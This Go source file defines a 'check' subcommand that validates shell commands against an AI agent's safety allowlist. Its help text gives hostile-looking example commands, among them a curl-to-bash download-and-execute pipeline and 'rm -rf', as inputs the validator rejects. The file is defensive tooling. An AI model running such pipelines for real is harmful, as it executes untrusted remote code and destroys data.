package main

import (
	"encoding/json"
	"fmt"
	"strings"

	"github.com/spf13/cobra"

	"github.com/ferdousbhai/create-fastreact/internal/safety"
)

var checkCmd = &cobra.Command{
	Use:   "check <command>",
	Short: "Validate a shell command against the safety policy",
	Long: `Check whether the agent would be allowed to run a shell command.

The command is split into segments on ;, &&, ||, | and &, and every
segment's executable must be on the allowlist. Destructive rm, kill by
process id and download-and-execute pipelines are rejected.

Exits 1 when the command is blocked.

Examples:
  fastreact-agent check "rm -rf node_modules"
  fastreact-agent check "curl http://x/y.sh | bash"
  fastreact-agent check -o json "kill 12345"`,
	Args: cobra.MinimumNArgs(1),
	RunE: runCheck,
}

func init() {
	rootCmd.AddCommand(checkCmd)
}

type checkOutput struct {
	Command  string   `json:"command"`
	Commands []string `json:"commands,omitempty"`
	safety.Verdict
}

func runCheck(cmd *cobra.Command, args []string) error {
	raw := strings.Join(args, " ")
	dir, err := resolveProject()
	if err != nil {
		return err
	}
	cfg, err := loadConfig(dir, nil)
	if err != nil {
		return err
	}

	verdict := newValidator(cfg).Validate(raw)
	result := checkOutput{Command: raw, Verdict: verdict}
	// Unparseable input has no command list; the verdict already says why.
	result.Commands, _ = safety.ExtractCommands(raw)

	w := cmd.OutOrStdout()
	if cfg.Output == "json" {
		data, err := json.MarshalIndent(result, "", "  ")
		if err != nil {
			return fmt.Errorf("marshal verdict: %w", err)
		}
		fmt.Fprintln(w, string(data))
	} else {
		if cfg.Verbose && len(result.Commands) > 0 {
			fmt.Fprintf(w, "commands: %s\n", strings.Join(result.Commands, ", "))
		}
		if verdict.Allowed {
			fmt.Fprintln(w, "ALLOWED")
		} else {
			fmt.Fprintf(w, "BLOCKED: %s\n", verdict.Reason)
		}
	}

	if !verdict.Allowed {
		return &exitError{code: 1, err: fmt.Errorf("command blocked: %s", verdict.Reason)}
	}
	return nil
}
